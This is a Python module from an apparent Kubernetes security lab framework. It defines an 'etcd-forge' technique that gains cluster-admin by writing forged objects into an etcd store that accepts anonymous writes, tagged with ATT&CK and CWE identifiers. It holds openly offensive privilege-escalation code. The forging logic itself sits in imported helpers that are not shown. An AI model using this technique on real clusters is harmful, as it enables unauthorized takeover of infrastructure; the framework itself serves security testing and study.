"""Become cluster-admin by writing into etcd, without any credential."""

from __future__ import annotations

from dataclasses import dataclass
from typing import TYPE_CHECKING

from labkit.model import Foothold, Model
from labkit.techniques._lib.machines.reach import Answer
from labkit.techniques._lib.stores import forge as forging
from labkit.techniques._lib.stores.etcd import answers_anonymous, ask, decode, encode
from labkit.techniques._lib.technique import (
    ADMIN,
    NETWORK,
    POD,
    USER_ON_MASTER,
    USER_ON_WORKER,
    Prediction,
    Technique,
)
from labkit.techniques._lib.verdict import Verdict

if TYPE_CHECKING:
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

TAKEN = "HTTP 200, etcd takes what anybody writes; Kubernetes believes etcd"


@dataclass(frozen=True, slots=True)
class _AnonymousStore:
    """etcd's JSON over HTTP, asked as nobody."""

    lab: Lab
    foothold: Foothold

    def put(self, key: str, value: bytes) -> Answer:
        return ask(self.lab, "put", key, self.foothold, value=encode(value))

    def get(self, key: str) -> bytes:
        return b"".join(decode(ask(self.lab, "range", key, self.foothold)))

    def delete(self, key: str) -> None:
        ask(self.lab, "deleterange", key, self.foothold)


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Say what the model says: whether etcd asks who calls."""
    return answers_anonymous(model)


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Write a request that nobody approved, and have it signed."""
    how = "without a credential"
    return forging.forge(lab, TECHNIQUE.name, foothold, _AnonymousStore(lab, foothold), how, TAKEN)


TECHNIQUE = Technique(
    name="etcd-forge",
    title="Become cluster-admin by writing into etcd",
    footholds=(NETWORK, USER_ON_MASTER, USER_ON_WORKER, POD),
    grants=(ADMIN,),
    about="kube-apiserver@* -> etcd@*",
    properties=("encryption", "client_authentication", "authorization"),
    attack=("T1565.001", "T1098"),
    stride=("tampering", "elevation of privilege"),
    cwe=("CWE-306", "CWE-345"),
    sources=forging.SOURCES,
    predict=predict,
    execute=execute,
)
